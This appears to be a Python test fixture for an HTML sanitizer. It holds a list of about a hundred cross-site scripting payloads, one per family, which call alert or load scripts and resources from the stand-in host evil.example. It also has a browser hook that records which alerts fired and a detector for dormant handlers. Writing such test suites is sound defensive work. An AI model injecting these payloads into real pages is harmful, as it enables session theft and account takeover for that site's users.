"""Texts that run a script where a page forgets to escape or clean them: one of each known family.

`{n}` is the payload's number; each calls `alert` with it, or loads something from `FOREIGN`.
"""

from __future__ import annotations

FOREIGN = "evil.example"
_FAMILIES = (
    r"""
<script>alert({n})</script>
<SCRIPT/x>alert({n})</SCRIPT>
<scr<script>ipt>alert({n})</scr</script>ipt>
<script src=//evil.example/{n}.js></script>
<script type=module>import("//evil.example/{n}.js")</script>
</title><script>alert({n})</script>
</textarea><script>alert({n})</script>
</style><script>alert({n})</script>
</script><script>alert({n})</script>
--></script><!--><script>alert({n})</script>
]]><script>alert({n})</script>
</noscript><img src=x onerror=alert({n})>
<img src=x onerror=alert({n})>
<img/src/onerror=alert({n})>
<img src=x:ข่าว onerror="alert({n})">
<IMG """
    + '"""'
    + r"""><SCRIPT>alert({n})</SCRIPT>">
<img src="javascript:alert({n})">
<img src=x srcset="//evil.example/{n}.png 1x, x 2x" onerror=alert({n})>
<picture><source srcset="//evil.example/{n}.webp"><img onerror=alert({n}) src=x></picture>
<svg onload=alert({n})>
<svg><script>alert({n})</script></svg>
<svg><script href="data:text/javascript,alert({n})" /></svg>
<svg><animate onbegin=alert({n}) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert({n})"><text y=20>ข่าว</text></a></svg>
<svg><use href="data:image/svg+xml,&lt;svg id=x onload=alert({n})&gt;#x">
<svg><style><img src=x onerror=alert({n})></style></svg>
<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.alert({n})&lt;/script&gt;">
<svg><set attributeName=href to=javascript:alert({n})><a id=x>ก</a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert({n})&gt;">
<math href="javascript:alert({n})">ข่าว</math>
<math><annotation-xml encoding="text/html"><script>alert({n})</script>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert({n}) src>">
<noscript><p title="</noscript><img src=x onerror=alert({n})>">
<template><script>alert({n})</script></template>
<template shadowrootmode=open><img src=x onerror=alert({n})></template>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert({n})>">
<a href="javascript:alert({n})">ข่าว</a>
<a href=" jAvAsCrIpT:alert({n})">ข่าว</a>
<a href="java&#x09;script:alert({n})">ข่าว</a>
<a href="&#106;avascript&colon;alert({n})">ข่าว</a>
<a href="&#1;javascript:alert({n})">ข่าว</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">ข่าว{n}</a>
<a href="vbscript:alert({n})" onclick=alert({n})>ข่าว</a>
<a href=//evil.example/{n} ping=//evil.example/p{n} onfocus=alert({n}) autofocus tabindex=1>ข่าว</a>
<iframe src="javascript:alert({n})"></iframe>
<iframe srcdoc="<script>parent.alert({n})</script>"></iframe>
<iframe src="data:text/html,<script>parent.alert({n})</script>"></iframe>
<iframe src=//evil.example/{n}></iframe>
<iframe src="https://www.youtube-nocookie.com.evil.example/embed/{n}"></iframe>
<object data="javascript:alert({n})"></object>
<object data=//evil.example/{n}.svg type=image/svg+xml></object>
<embed src="javascript:alert({n})">
<body onload=alert({n})>
<body background=//evil.example/{n}.png>
<video><source onerror=alert({n})></video>
<video poster=//evil.example/{n}.png src=x onerror=alert({n}) autoplay>
<audio src=x onerror=alert({n})>
<details open ontoggle=alert({n})><summary>ข่าว</summary></details>
<input autofocus onfocus=alert({n})>
<button form=x formaction=javascript:alert({n}) autofocus onfocus=alert({n})>ข่าว</button>
<form action="javascript:alert({n})"><input type=submit></form>
<form id=documentElement><input name=attributes><input name=body onfocus=alert({n}) autofocus>
<marquee onstart=alert({n})>ข่าว</marquee>
<div style="background:url(//evil.example/{n}.png)">ข่าว</div>
<div style="background:url('javascript:alert({n})');width:expression(alert({n}))">ข่าว</div>
<p style="animation:x 1s" onanimationstart=alert({n})>ข่าว</p>
<style>@import "//evil.example/{n}.css";</style>
<style>*{{background:url(//evil.example/s{n}.png)}}</style>
<link rel=stylesheet href=//evil.example/{n}.css>
<link rel=prefetch href=//evil.example/f{n}>
<meta http-equiv=refresh content="0;url=javascript:alert({n})">
<meta http-equiv=refresh content="0;url=//evil.example/{n}">
<base href=//evil.example/{n}/>
<table background=//evil.example/{n}.png><td background=javascript:alert({n})>ข่าว
<ruby oncopy=alert({n})><rt onpointerrawupdate=alert({n})>ข่าว
<xss contenteditable onbeforeinput=alert({n}) onpagereveal=alert({n})>ข่าว
<img src=x oneกrror=alert({n}) onerror=alert({n})>
<s​cript>alert({n})</s​cript><ก onclick=alert({n})>ข่าว
" onmouseover=alert({n}) autofocus onfocus=alert({n}) x="
' onfocus=alert({n}) autofocus x='
`-alert({n})-`
"}};alert({n});//
"}}</script><script>alert({n})</script><script>{{"
\u003cscript\u003ealert({n})\u003c/script\u003e
&lt;script&gt;alert({n})&lt;/script&gt;
&amp;lt;img src=x onerror=alert({n})&amp;gt;
%3Cimg%20src=x%20onerror=alert({n})%3E
＜script＞alert({n})＜/script＞
<!--[if gte IE 4]><script>alert({n})</script><![endif]-->
<?xml-stylesheet href="javascript:alert({n})"?>
<!DOCTYPE x [<!ENTITY e "<script>alert({n})</script>">]>&e;
[ข่าว](javascript:alert({n}))
{{{{constructor.constructor('alert({n})')()}}}}
[caption]<img src=x onerror=alert({n})>[/caption][embed]javascript:alert({n})[/embed]
"""
)
SCRIPTS = [family.format(n=number) for number, family in enumerate(_FAMILIES.strip().splitlines())]
# Runs before any script of a page, in every frame.
WATCH = """
    window.fired = [];
    for (const name of ["alert", "confirm", "prompt"])
        window[name] = (what) => { window.top.fired.push(String(what)); };
"""
# What would run at a click or a key: handlers in attributes and addresses that are scripts.
DORMANT = r"""() => [...document.querySelectorAll("*")].flatMap((element) =>
    [...element.attributes].filter(({ name, value }) => /^on/i.test(name)
        || /^[\s\x00-\x20]*(javascript|vbscript|data:text)/i.test(value)
            && /^(href|src|action|formaction|data|xlink:href)$/i.test(name)
        || /^(srcdoc|ping)$/i.test(name)
    ).map(({ name, value }) => `${element.tagName} ${name}=${value}`))"""
